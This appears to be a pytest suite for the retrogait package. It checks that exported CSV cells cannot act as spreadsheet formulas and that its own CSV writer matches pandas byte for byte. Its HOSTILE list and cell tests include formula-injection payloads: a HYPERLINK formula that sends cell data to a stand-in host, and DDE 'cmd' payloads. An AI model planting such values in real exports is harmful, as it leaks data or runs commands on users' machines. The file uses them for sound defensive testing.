"""Text from headers and folder names cannot reach a spreadsheet as a formula (issue 12 item 15)."""

from __future__ import annotations

import csv
import math
import os
from dataclasses import replace
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from retrogait.batch import run_batch
from retrogait.csvsafe import FORMULA_STARTS, float_texts, floats_as_text, safe_cell, safe_frame, write_csv
from retrogait.session import write_session
from retrogait.simulate import Bout, SimulationConfig, simulate

HOSTILE = ['=HYPERLINK("http://x.invalid/?"&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"]


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-0.24", "-0.24"),  # a number written as text is not a formula
        ("+1e5", "+1e5"),
        ("Polar H10", "Polar H10"),
        ("a=b", "a=b"),
        ("'=1", "'=1"),  # already neutral
        ("", ""),
    ],
)
def test_cells(cell: str, expected: str) -> None:
    assert safe_cell(cell) == expected
    assert safe_cell(safe_cell(cell)) == expected


def test_numbers_stay_numbers(tmp_path: Path) -> None:
    frame = pd.DataFrame(
        {"impact_peak_g": [-0.24, 3.5, math.nan], "n": [1, -2, 3], "subject": ["=1", None, "-7"], "=col": [1, 2, 3]}
    )
    safe = safe_frame(frame)
    pd.testing.assert_series_equal(safe["impact_peak_g"], frame["impact_peak_g"])
    pd.testing.assert_series_equal(safe["n"], frame["n"])
    assert safe["subject"].iloc[0] == "'=1" and pd.isna(safe["subject"].iloc[1]) and safe["subject"].iloc[2] == "-7"
    assert list(safe.columns)[-1] == "'=col"
    assert frame["subject"].iloc[0] == "=1"  # the caller's frame is not changed
    back = pd.read_csv(write_csv(frame, tmp_path / "t.csv"))
    assert back["impact_peak_g"].iloc[0] == -0.24 and back["n"].iloc[1] == -2


def _cells(path: Path) -> list[str]:
    with path.open(newline="", encoding="utf-8") as fh:
        return [cell for row in csv.reader(fh) for cell in row]


def _is_formula(cell: str) -> bool:
    return cell.startswith(FORMULA_STARTS) and safe_cell(cell) != cell


@pytest.mark.parametrize("steps_format", [".parquet", ".csv"])
def test_batch_tables_hold_no_formula(steps_format: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    for module in ("retrogait.batch.worker", "retrogait.batch.store"):
        monkeypatch.setattr(f"{module}.steps_suffix", lambda: steps_format)
    root = tmp_path / "squad"
    for i, direction in enumerate(("forward", "backward")):
        config = SimulationConfig(
            "shank", [Bout("still", "still", 0.0, 2.0), Bout(direction, "running", 3.0, 10.0)], 200.0
        )
        session = simulate(config).session
        session = replace(session, meta=replace(session.meta, subject=HOSTILE[i], sensor=HOSTILE[2]))
        write_session(session, root / f"run{i}.csv")
    folder_named = root / "=1+2"  # subject taken from the folder name when the header names none
    session = simulate(SimulationConfig("shank", [Bout("forward", "running", 3.0, 6.0)], 200.0)).session
    write_session(replace(session, meta=replace(session.meta, sensor=HOSTILE[2])), folder_named / "x.csv")
    (root / "=broken.csv").write_text("# retrogait-session: 1\n# placement: shank\nnot,a,table\n")

    result = run_batch([root], tmp_path / "out", jobs=1)
    sessions = pd.read_csv(result.sessions_path)
    assert sorted(sessions["subject"]) == sorted(["'" + HOSTILE[0], "'" + HOSTILE[1], "'=1+2"])
    assert set(sessions["sensor"].dropna()) == {"'" + HOSTILE[2]}
    assert np.issubdtype(sessions["n_steps"].dtype, np.integer)
    written = [result.sessions_path, result.errors_path, *(tmp_path / "out" / "cohort").rglob("*.csv")]
    if steps_format == ".csv":
        written += [result.steps_path, *(tmp_path / "out" / "sessions").glob("*.csv")]
    for path in written:
        assert not [c for c in _cells(path) if _is_formula(c)], path
    assert result.n_failed == 1 and not any("not compared" in line for line in result.cohort), result.cohort


def _random_rows(rng: np.random.Generator) -> tuple[list[dict[str, object]], list[str] | None]:
    """Rows as a batch's sessions/errors tables hold them, and worse: gaps, None, NaN, whole numbers mixed
    with fractions, booleans, text that needs quoting or neutralising, very large and very small floats."""
    texts = ["a", "", "=cmd", "-0.5", "x,y", 'q"uote', "new\nline", "é", " lead", "+1e5", "@x", "\tt"]

    def any_value() -> object:
        kind = rng.integers(10)
        choices: list[object] = [
            None,
            math.nan,
            int(rng.integers(-5, 10**12)),
            float(rng.uniform(-1e6, 1e6)),
            texts[rng.integers(len(texts))],
            bool(rng.random() < 0.5),
            float(rng.integers(5)),
            float(10 ** rng.uniform(-20, 20)),
            np.int64(rng.integers(-9, 9)),  # numpy scalars, as an analysis may hand them on
            np.float64(rng.normal()),
        ]
        return choices[kind]

    keys = [str(k) for k in rng.choice(list("abcdef"), size=rng.integers(0, 6))]
    typed: dict[str, object] = {k: any_value() for k in "abcdef"}  # most cells of a column share a type
    rows = [
        {k: (any_value() if rng.random() < 0.2 else typed[k]) for k in keys if rng.random() > 0.15}
        for _ in range(rng.integers(0, 6))
    ]
    columns = None if rng.random() < 0.7 else list(dict.fromkeys(str(c) for c in rng.choice(list("abcdefg"), 3)))
    return rows, columns


def test_records_are_written_as_pandas_writes_their_frame(tmp_path: Path) -> None:
    """write_records (the batch's tables, without pandas) gives the same bytes as write_csv of the DataFrame."""
    from retrogait.csvsafe import write_records

    rng = np.random.default_rng(17)
    for trial in range(400):
        rows, columns = _random_rows(rng)
        ours = write_records(rows, tmp_path / "records.csv", columns)
        theirs = write_csv(pd.DataFrame(rows, columns=columns), tmp_path / "frame.csv")
        assert ours.read_bytes() == theirs.read_bytes(), (trial, rows, columns)


def _float_frame(rows: int, seed: int) -> pd.DataFrame:
    """Floats of every size with NaN, infinities, -0.0 and whole numbers, beside text, integers and booleans."""
    rng = np.random.default_rng(seed)
    columns: dict[str, object] = {}
    for k in range(6):
        values = rng.standard_normal(rows) * 10.0 ** rng.integers(-15, 16, rows)
        values[rng.random(rows) < 0.1] = np.nan
        values[rng.random(rows) < 0.02] = np.inf
        values[rng.random(rows) < 0.02] = -np.inf
        values[rng.random(rows) < 0.05] = -0.0
        whole = rng.random(rows) < 0.05
        values[whole] = rng.integers(-1000, 1000, int(whole.sum()))
        columns[f"f{k}"] = values
    columns["f32"] = (rng.standard_normal(rows) * 1e3).astype(np.float32)
    columns["i"] = rng.integers(-5, 5, rows)
    columns["label"] = rng.choice(np.array(["forward", "-1.5", "=1+1", "a,b", ""], dtype=object), rows)
    columns["flag"] = rng.random(rows) < 0.5
    return pd.DataFrame(columns)


@pytest.mark.parametrize("seed", range(4))
@pytest.mark.parametrize(("float_format", "na_rep"), [("%.6g", ""), ("%.10g", "NA"), ("%.3f", ""), ("%g", "")])
def test_floats_are_written_as_pandas_writes_them(seed: int, float_format: str, na_rep: str, tmp_path: Path) -> None:
    """PERF-15: write_csv spells float columns itself; the bytes are pandas' own (also for 0 and 1 rows)."""
    for rows in (0, 1, 3000):
        frame = _float_frame(rows, seed)
        write_csv(frame, tmp_path / "ours.csv", float_format=float_format, na_rep=na_rep)
        with (tmp_path / "pandas.csv").open("w", newline="") as fh:
            safe_frame(frame).to_csv(fh, index=False, float_format=float_format, na_rep=na_rep)
        assert (tmp_path / "ours.csv").read_bytes() == (tmp_path / "pandas.csv").read_bytes()


def _plain_frame(rows: int, seed: int) -> pd.DataFrame:
    """The kinds of column write_csv spells itself (PERF-30): float64, int64, bool and text with gaps, with
    cells the CSV writer must quote (commas, quotes, line ends) and text beyond ASCII."""
    frame = _float_frame(rows, seed).drop(columns="f32")
    rng = np.random.default_rng(seed + 100)
    texts = np.array(['say "hi"', "two\nlines", "cr\r", "naïve ü", " lead", "", None, math.nan], dtype=object)
    frame["text"] = rng.choice(texts, rows) if rows else np.array([], dtype=object)
    frame["u8"] = rng.integers(0, 255, rows).astype(np.uint8)
    return frame


@pytest.mark.parametrize("seed", range(4))
@pytest.mark.parametrize(("float_format", "na_rep"), [("%.6g", ""), ("%.10g", "NA"), ("%.3f", "")])
def test_plain_tables_are_written_as_pandas_writes_them(
    seed: int, float_format: str, na_rep: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """PERF-30: write_csv writes tables of floats, integers, booleans and text itself; the bytes are pandas'
    own (0, 1 and 3000 rows; a lone text column whose cell is empty; a different line end)."""

    def not_used(*_: object) -> None:
        raise AssertionError("pandas' path taken")

    monkeypatch.setattr("retrogait.csvsafe.floats_as_text", not_used)
    frames = [_plain_frame(rows, seed) for rows in (0, 1, 3000)]
    frames.append(pd.DataFrame({"only": pd.Series(["", None, "x"], dtype=object)}))
    for frame in frames:
        for terminator in (None, "\r\n"):
            options = {"lineterminator": terminator} if terminator else {}
            write_csv(frame, tmp_path / "ours.csv", float_format=float_format, na_rep=na_rep, **options)
            with (tmp_path / "pandas.csv").open("w", newline="", encoding="utf-8") as fh:
                safe_frame(frame).to_csv(fh, index=False, float_format=float_format, na_rep=na_rep, **options)
            assert (tmp_path / "ours.csv").read_bytes() == (tmp_path / "pandas.csv").read_bytes()


def test_tables_pandas_must_spell_are_left_to_it(tmp_path: Path) -> None:
    """PERF-30: columns write_csv does not spell itself (numbers in an object column, dates) are pandas'."""
    frame = pd.DataFrame(
        {"mixed": pd.Series([1.5, "a", None], dtype=object), "when": pd.to_datetime(["2026-01-01"] * 3), "x": 1.0}
    )
    write_csv(frame, tmp_path / "ours.csv", float_format="%.3f")
    with (tmp_path / "pandas.csv").open("w", newline="") as fh:
        safe_frame(frame).to_csv(fh, index=False, float_format="%.3f")
    assert (tmp_path / "ours.csv").read_bytes() == (tmp_path / "pandas.csv").read_bytes()


def test_one_formula_among_many_labels_is_neutralised() -> None:
    """PERF-15: a column is skipped by its distinct values only when none of them is a formula."""
    labels = pd.Series(["forward"] * 5000 + ["=1+1"] + ["backward"] * 5000, dtype=object)
    clean = pd.Series(["forward", "-0.5", ""] * 3333 + ["backward", "a=b"], dtype=object)
    out = safe_frame(pd.DataFrame({"direction": labels, "clean": clean}))
    assert out["direction"].iloc[5000] == "'=1+1" and (out["direction"] != labels).sum() == 1
    assert out["clean"].tolist() == clean.tolist()


@pytest.mark.parametrize("seed", range(3))
@pytest.mark.parametrize(("float_format", "na_rep"), [("%.6g", ""), ("%.3f", "NA")])
def test_repeated_floats_are_spelled_once_with_the_text_of_each_value(
    seed: int, float_format: str, na_rep: str, tmp_path: Path
) -> None:
    """PERF-53: a column that repeats its values has each distinct value (by its bits) spelled once; the text is
    one ``%`` per value and pandas' bytes: -0.0 apart from 0.0, NaNs of other bits all ``na_rep``, infinities."""
    rng = np.random.default_rng(seed)
    quiet_nan = np.array([0x7FF8000000000001], dtype=np.int64).view(np.float64)[0]
    pool = np.array([0.0, -0.0, math.nan, quiet_nan, math.inf, -math.inf, 5e-324, 1.5, -1.5, 0.1 + 0.2, 1e300])
    frame = pd.DataFrame(
        {
            "repeats": rng.choice(pool, 400),
            "nan_only": np.full(400, math.nan),
            "distinct": rng.standard_normal(400),
            "half": np.where(rng.random(400) < 0.5, rng.choice(pool, 400), rng.standard_normal(400)),
        }
    )
    for column in frame.columns:
        values = frame[column].to_numpy()
        expected = [na_rep if math.isnan(v) else float_format % v for v in values.tolist()]
        assert float_texts(values, float_format, na_rep) == expected
    assert float_texts(np.array([0.0, -0.0, 0.0]), "%g") == ["0", "-0", "0"]
    write_csv(frame, tmp_path / "ours.csv", float_format=float_format, na_rep=na_rep)
    with (tmp_path / "pandas.csv").open("w", newline="") as fh:
        safe_frame(frame).to_csv(fh, index=False, float_format=float_format, na_rep=na_rep)
    assert (tmp_path / "ours.csv").read_bytes() == (tmp_path / "pandas.csv").read_bytes()


#: Any float64's bits (NaNs of every payload, subnormals, -0.0, infinities), and values a table repeats.
_ANY_BITS = st.integers(-(2**63), 2**63 - 1).map(lambda b: float(np.array([b], dtype=np.int64).view(np.float64)[0]))
_REPEATED = st.sampled_from([0.0, -0.0, math.nan, math.inf, -math.inf, 5e-324, 1.5, 0.1 + 0.2, 1e300])


@given(
    pool=st.lists(st.one_of(_ANY_BITS, _REPEATED, st.floats()), min_size=1, max_size=12),
    picks=st.lists(st.integers(0, 11), max_size=40),
    byte_order=st.sampled_from("<>"),
    float_format=st.sampled_from(["%.6g", "%.3f", "%r", "%+.17e"]),
)
def test_a_float_column_is_spelled_one_percent_a_value_whatever_its_bits_or_byte_order(
    pool: list[float], picks: list[int], byte_order: str, float_format: str
) -> None:
    """REVIEW-23: PERF-53's spelling of each distinct value once is the old spelling, one ``%`` per value and
    ``na_rep`` for NaN, for any column, mostly repeated or mostly distinct; a big-endian float64 column (a buffer
    read as ">f8") was spelled from its bytes read the other way round (1.5 as 3.13984e-319)."""
    values = np.array([pool[k % len(pool)] for k in picks], dtype=np.float64).astype(byte_order + "f8")
    expected = ["NA" if math.isnan(v) else float_format % v for v in values.tolist()]
    assert float_texts(values, float_format, "NA") == expected


def test_a_big_endian_float_column_is_written_as_its_values(tmp_path: Path) -> None:
    """REVIEW-23: write_csv spells a ">f8" column (which pandas keeps as it is) by its values, as pandas does."""
    values = [1.5] * 6 + [2.25, -0.0, math.nan]
    frame = pd.DataFrame({"a": np.array(values, dtype=">f8"), "n": range(9)})
    write_csv(frame, tmp_path / "ours.csv", float_format="%g")
    with (tmp_path / "pandas.csv").open("w", newline="") as fh:
        frame.to_csv(fh, index=False, float_format="%g")
    cells = ["1.5"] * 6 + ["2.25", "-0", ""]
    expected = "".join(f"{cell},{k}{os.linesep}" for k, cell in enumerate(cells))
    assert (tmp_path / "ours.csv").read_bytes().decode() == f"a,n{os.linesep}{expected}"
    assert (tmp_path / "ours.csv").read_bytes() == (tmp_path / "pandas.csv").read_bytes()


@pytest.mark.parametrize("seed", range(3))
def test_columns_with_their_own_format_are_spelled_in_the_plain_path_as_pandas_writes_them(
    seed: int, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """PERF-107: the columns named in ``column_formats`` (steps.csv's times, ``%.6f``) are spelled by write_csv's own
    path, with their format (float64 and float32; an integer column named stays an integer), the other floats with
    ``float_format``; the bytes are those of the frame with those columns made text first and written by pandas."""

    def not_used(*_: object) -> None:
        raise AssertionError("pandas' path taken")

    frame = _plain_frame(3000, seed).drop(columns="text")  # cells the writer quotes: test_plain_tables_...
    frame["f32"] = (np.random.default_rng(seed).standard_normal(3000) * 1e3).astype(np.float32)
    formats = {"f0": "%.6f", "f32": "%.3f", "i": "%.2f", "absent": "%.1f"}
    safe = safe_frame(frame)
    named = {c: floats_as_text(safe[[c]], formats[c])[c] for c in safe.columns if c in formats}
    with (tmp_path / "pandas.csv").open("w", newline="", encoding="utf-8") as fh:
        floats_as_text(safe.assign(**named), "%.6g").to_csv(fh, index=False)
    monkeypatch.setattr("retrogait.csvsafe.floats_as_text", not_used)
    write_csv(frame, tmp_path / "ours.csv", formats, float_format="%.6g")
    assert (tmp_path / "ours.csv").read_bytes() == (tmp_path / "pandas.csv").read_bytes()


@pytest.mark.parametrize("terminator", ["\n", "\r\n", "|"])
def test_rows_are_joined_only_where_the_csv_writer_would_not_quote_a_cell(terminator: str) -> None:
    """PERF-107: the rows of cells no writer quotes are written joined by commas, the text ``csv.writer`` writes; a cell
    with a comma, a quote, a line end, NUL or a character of the line's end (and a table of one column, whose empty
    cell the writer quotes) is left to the writer: nothing written."""
    import io

    from retrogait.csvsafe import _joined_rows

    plain = [["1.5", "", "-0", "forward"], ["x y", "naïve", " lead", "'=1"]]
    ours, theirs = io.StringIO(), io.StringIO()
    assert _joined_rows(ours, plain, terminator)
    csv.writer(theirs, lineterminator=terminator).writerows(zip(*plain, strict=True))
    assert ours.getvalue() == theirs.getvalue()
    assert _joined_rows(ours, [[], []], terminator)  # no rows: nothing more written
    assert ours.getvalue() == theirs.getvalue()
    for cell in (",", '"', "a\rb", "a\nb", "\0", "x|y"):
        quoted = io.StringIO()
        if cell == "x|y" and terminator != "|":
            continue
        assert not _joined_rows(quoted, [["1", cell], ["2", "3"]], terminator), cell
        assert not quoted.getvalue()
    assert not _joined_rows(io.StringIO(), [["", "a"]], terminator)


@pytest.mark.parametrize("block", [1, 3, 4, None])
def test_rows_joined_in_blocks_are_every_row_once_in_order(
    block: int | None, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """REVIEW-167: ``_joined_rows`` joins ``_ROWS_AT_ONCE`` rows at a time; a table of more rows than one block (a
    row short of a block, exactly one, one more, several) is every row once, in order, with its line end: pandas'
    bytes. ``None``: the real block, crossed by one row (65,537 rows)."""
    import retrogait.csvsafe as csvsafe

    joined: list[bool] = []
    real = csvsafe._joined_rows

    def spied(*args: object) -> bool:
        joined.append(real(*args))  # type: ignore[arg-type]
        return joined[-1]

    monkeypatch.setattr(csvsafe, "_joined_rows", spied)
    if block is not None:
        monkeypatch.setattr(csvsafe, "_ROWS_AT_ONCE", block)
    sizes = [(1 << 16) + 1] if block is None else sorted({0, 1, block - 1, block, block + 1, 3 * block + 2} - {-1})
    rng = np.random.default_rng(block or 0)
    for rows in sizes:
        frame = pd.DataFrame(
            {"t": np.arange(rows) / 100.0, "x": rng.standard_normal(rows), "n": np.arange(rows) * 7, "d": "forward"}
        )
        for terminator in ("\n", "\r\n"):
            write_csv(frame, tmp_path / "ours.csv", {"t": "%.6f"}, float_format="%.6g", lineterminator=terminator)
            with (tmp_path / "pandas.csv").open("w", newline="", encoding="utf-8") as fh:
                floats_as_text(safe_frame(frame).assign(t=[f"{t:.6f}" for t in frame["t"]]), "%.6g").to_csv(
                    fh, index=False, lineterminator=terminator
                )
            assert (tmp_path / "ours.csv").read_bytes() == (tmp_path / "pandas.csv").read_bytes(), (rows, terminator)
    assert joined and all(joined)


#: Cells of characters the writer never quotes; one cell of a table may get one of :data:`_ANY_CHARACTER` (REVIEW-167).
_PLAIN_TEXT = st.text(
    st.sampled_from(["|", "\u2028", "\x0b", "\x85", " ", "'", "-", "é", "😀", "1", ".", "a"]), max_size=3
)
_ANY_CHARACTER = st.sampled_from([",", '"', "\r", "\n", "\0", "|", "\u2028", "\x85", "'", " "])


@st.composite
def _text_columns(draw: st.DrawFn) -> tuple[list[list[str]], str]:
    """Columns of text cells (0-3 columns of 0-5 rows), at most one cell with a character the writer may quote, and
    a line end."""
    rows = draw(st.integers(0, 5))
    columns = [
        draw(st.lists(_PLAIN_TEXT, min_size=rows, max_size=rows)) for _ in range(draw(st.sampled_from([2, 3, 0, 1])))
    ]
    if rows and columns and draw(st.integers(0, 3)):
        column, row = draw(st.integers(0, len(columns) - 1)), draw(st.integers(0, rows - 1))
        columns[column][row] += draw(_ANY_CHARACTER)
    return columns, draw(st.sampled_from(["\n", "\r\n", "|", "\u2028"]))


@settings(max_examples=400)
@given(_text_columns())
def test_joined_rows_are_the_csv_writer_s_text_or_nothing(table: tuple[list[list[str]], str]) -> None:
    """REVIEW-167: on random cells (the characters the writer quotes, those it does not, the line end's),
    ``_joined_rows`` writes exactly ``csv.writer``'s text, or nothing and returns False."""
    import io

    from retrogait.csvsafe import _joined_rows

    columns, terminator = table
    ours, theirs = io.StringIO(), io.StringIO()
    csv.writer(theirs, lineterminator=terminator).writerows(zip(*columns, strict=True))
    if _joined_rows(ours, columns, terminator):
        assert ours.getvalue() == theirs.getvalue()
    else:
        assert not ours.getvalue()
